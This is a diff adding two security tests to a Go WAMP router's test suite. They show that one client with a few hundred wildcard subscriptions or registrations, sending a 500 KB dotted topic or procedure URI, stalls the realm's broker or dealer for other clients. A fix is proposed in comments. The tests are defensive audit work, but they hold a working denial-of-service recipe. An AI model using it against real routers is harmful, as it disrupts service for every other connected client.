@@ -322,3 +322,117 @@ func TestAttackProgressiveTimeoutPanicsAfterClose(t *testing.T) {
 		t.Errorf("child did not finish:\n%s", tail([]byte(out), 4000))
 	}
 }
+
+// sendAll writes frames, each a JSON message, to c in one write.
+func (c *rsJSON) sendAll(msgs ...string) {
+	c.t.Helper()
+	var b []byte
+	for _, m := range msgs {
+		n := len(m)
+		b = append(b, 0, byte(n>>16), byte(n>>8), byte(n))
+		b = append(b, m...)
+	}
+	c.write(b)
+}
+
+// FINDING (cross-client harm: realm-wide stall): nexus matches every
+// PUBLISH against every wildcard subscription of the realm with
+// WildcardMatch, which splits the topic on "." each time, allocating a
+// slice of all its components, before comparing the component counts; the
+// dealer does the same for a CALL that has no exact registration, against
+// every wildcard registration. Topics and procedures are only limited by
+// the message size (16 MiB) and the number of pattern subscriptions and
+// registrations per session not at all. One anonymous client with a few
+// hundred wildcard subscriptions and a topic of a few hundred thousand
+// components keeps the realm's single broker goroutine busy for seconds
+// per PUBLISH; every other client's publications, subscriptions and meta
+// events wait (and likewise the dealer for every call).
+//
+// Fix: in screen (guard.go), refuse URIs (topics, procedures, REGISTER and
+// SUBSCRIBE patterns) longer than a sane bound (say 1 KiB, or a few dozen
+// components), and cap the subscriptions and registrations one session may
+// hold (in the ledger, which already counts them), pattern-based ones in
+// particular: nexus scans all of them for each PUBLISH, each CALL without
+// exact match, and each meta event.
+func TestAttackLongTopicStallsBroker(t *testing.T) {
+	r := startRouter(t, router.Config{})
+	victim := dial(t, r.RawSocketURL(), client.Config{Serialization: serialize.MSGPACK, ResponseTimeout: 2 * time.Second})
+	pubAck := func() time.Duration {
+		start := time.Now()
+		if err := victim.Publish("com.test.unrelated", wamp.Dict{wamp.OptAcknowledge: true}, nil, nil); err != nil {
+			t.Logf("victim publish: %v", err)
+		}
+		return time.Since(start)
+	}
+	base := pubAck()
+
+	attacker := dialRSJSON(t, r, 15, 4096)
+	attacker.join(allRoles)
+	const patterns = 300
+	var subs []string
+	for i := range patterns {
+		subs = append(subs, fmt.Sprintf(`[32,%d,{"match":"wildcard"},"w%d."]`, i+1, i))
+	}
+	attacker.sendAll(subs...)
+	for range patterns {
+		attacker.recv(33)
+	}
+	topic := strings.Repeat("a.", 250_000) + "a" // 500 KB, 250,001 components
+	pub := `[16,1,{},"` + topic + `"]`
+	attacker.sendAll(pub)
+	var stalled time.Duration
+	for end := time.Now().Add(4 * time.Second); time.Now().Before(end) && stalled < time.Second; {
+		stalled = max(stalled, pubAck())
+		time.Sleep(20 * time.Millisecond)
+	}
+	if stalled > time.Second {
+		t.Errorf("FINDING: another client's PUBLISH waited %v for the broker (%v before): one PUBLISH of 500 KB with %d wildcard subscriptions stall the realm", stalled, base, patterns)
+	} else {
+		t.Logf("victim's acknowledged PUBLISH: %v before, at most %v during the attack", base, stalled)
+	}
+}
+
+// FINDING (cross-client harm: realm-wide stall): the dealer's side of
+// TestAttackLongTopicStallsBroker. A CALL of a long procedure URI that has
+// no exact registration is matched against every wildcard registration,
+// each match splitting the URI; the realm's single dealer goroutine is busy
+// for seconds, and every other client's calls wait. Same fix.
+func TestAttackLongProcedureStallsDealer(t *testing.T) {
+	r := startRouter(t, router.Config{})
+	callee := dial(t, r.RawSocketURL(), client.Config{Serialization: serialize.MSGPACK})
+	if err := callee.Register("com.test.echo", echo, nil); err != nil {
+		t.Fatal(err)
+	}
+	victim := dial(t, r.RawSocketURL(), client.Config{Serialization: serialize.MSGPACK, ResponseTimeout: 2 * time.Second})
+	call := func() time.Duration {
+		start := time.Now()
+		if _, err := victim.Call(t.Context(), "com.test.echo", nil, wamp.List{1}, nil, nil); err != nil {
+			t.Logf("victim call: %v", err)
+		}
+		return time.Since(start)
+	}
+	base := call()
+
+	attacker := dialRSJSON(t, r, 15, 4096)
+	attacker.join(allRoles)
+	const patterns = 300
+	var regs []string
+	for i := range patterns {
+		regs = append(regs, fmt.Sprintf(`[64,%d,{"match":"wildcard"},"w%d."]`, i+1, i))
+	}
+	attacker.sendAll(regs...)
+	for range patterns {
+		attacker.recv(65)
+	}
+	attacker.sendAll(`[48,1,{},"` + strings.Repeat("a.", 250_000) + `a"]`)
+	var stalled time.Duration
+	for end := time.Now().Add(4 * time.Second); time.Now().Before(end) && stalled < time.Second; {
+		stalled = max(stalled, call())
+		time.Sleep(20 * time.Millisecond)
+	}
+	if stalled > time.Second {
+		t.Errorf("FINDING: another client's CALL waited %v for the dealer (%v before): one CALL of a 500 KB procedure with %d wildcard registrations stalls the realm", stalled, base, patterns)
+	} else {
+		t.Logf("victim's CALL: %v before, at most %v during the attack", base, stalled)
+	}
+}
